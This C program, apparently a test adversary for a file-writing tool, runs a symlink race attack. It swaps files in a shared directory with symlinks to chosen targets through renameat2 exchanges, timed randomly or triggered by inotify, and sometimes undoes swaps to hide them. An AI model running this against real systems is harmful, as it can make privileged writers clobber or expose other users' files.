/*
 * Another user of a directory, who tries to make a writer with more rights act on other files. It runs until standard
 * input ends, then prints how many times it has exchanged two names.
 *
 *   attacker toggle DIRECTORY NAME BAIT TARGET
 *       exchanges NAME with BAIT, a symbolic link to TARGET, in a loop
 *   attacker watch DIRECTORY PREFIX BAIT TARGET...
 *       exchanges each new PREFIX*.writer with BAIT, a symbolic link to one TARGET after another
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static unsigned long exchanges;

static void pause_for(long microseconds)
{
	struct timespec t = { 0, microseconds * 1000 };
	nanosleep(&t, NULL);
}

static int is_over(int wait)
{
	struct pollfd in = { 0, POLLIN, 0 };
	return poll(&in, 1, wait) > 0;
}

static void exchange(int directory, const char *one, const char *other)
{
	if (renameat2(directory, one, directory, other, RENAME_EXCHANGE) == 0) exchanges++;
}

static void toggle(int directory, const char *name, const char *bait, const char *target)
{
	char to[4096];
	while (!is_over(0)) {
		/* The writer may have renamed a file over the link. */
		if (readlinkat(directory, name, to, sizeof to) < 0 && readlinkat(directory, bait, to, sizeof to) < 0) {
			unlinkat(directory, bait, 0);
			symlinkat(target, directory, bait);
		}
		exchange(directory, name, bait);
		/* A random time: long enough for the writer to succeed now and then, and never in step with it. */
		pause_for(rand() % 100);
	}
}

/* Removes what an exchange has left at a name: our link, or the writer's directory. */
static void clear(int directory, const char *name)
{
	static unsigned long count;
	char aside[64];
	if (unlinkat(directory, name, 0) == 0 || unlinkat(directory, name, AT_REMOVEDIR) == 0) return;
	snprintf(aside, sizeof aside, "aside.%d.%lu", (int)getpid(), count++);
	renameat2(directory, name, directory, aside, 0);
}

static void attack(int directory, const char *name, const char *bait, char **targets, int count)
{
	static unsigned long attacks;
	char lock[256];
	exchange(directory, name, bait);
	pause_for(rand() % 2000);
	/* At times the exchange is undone, so that the writer sees no trace of it. */
	if (rand() % 3 == 0) exchange(directory, name, bait);
	else {
		snprintf(lock, sizeof lock, "%.*s.writer", (int)strcspn(name, "."), name);
		clear(directory, name);
		if (rand() % 2) clear(directory, lock);
	}
	clear(directory, bait);
	symlinkat(targets[++attacks % count], directory, bait);
}

static void watch(const char *path, int directory, const char *prefix, const char *bait, char **targets, int count)
{
	char events[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	int fd = inotify_init1(IN_NONBLOCK);
	symlinkat(targets[0], directory, bait);
	if (inotify_add_watch(fd, path, IN_CREATE | IN_MOVED_TO) < 0) exit(2);
	while (!is_over(0)) {
		ssize_t length = read(fd, events, sizeof events);
		for (char *at = events; length > 0 && at < events + length;) {
			struct inotify_event *event = (struct inotify_event *)at;
			size_t name = event->len ? strlen(event->name) : 0;
			if (name > 7 && strncmp(event->name, prefix, strlen(prefix)) == 0 &&
			    strcmp(event->name + name - 7, ".writer") == 0) {
				attack(directory, event->name, bait, targets, count);
				/* Events of the meantime are out of date. */
				while (read(fd, events, sizeof events) > 0);
				break;
			}
			at += sizeof *event + event->len;
		}
	}
}

int main(int argc, char **argv)
{
	if (argc < 6) return 2;
	int directory = open(argv[2], O_DIRECTORY | O_RDONLY);
	if (directory < 0) return 2;
	srand(getpid());
	puts("\"ready\"");
	fflush(stdout);
	if (strcmp(argv[1], "toggle") == 0) toggle(directory, argv[3], argv[4], argv[5]);
	else watch(argv[2], directory, argv[3], argv[4], argv + 5, argc - 5);
	printf("%lu\n", exchanges);
	return 0;
}
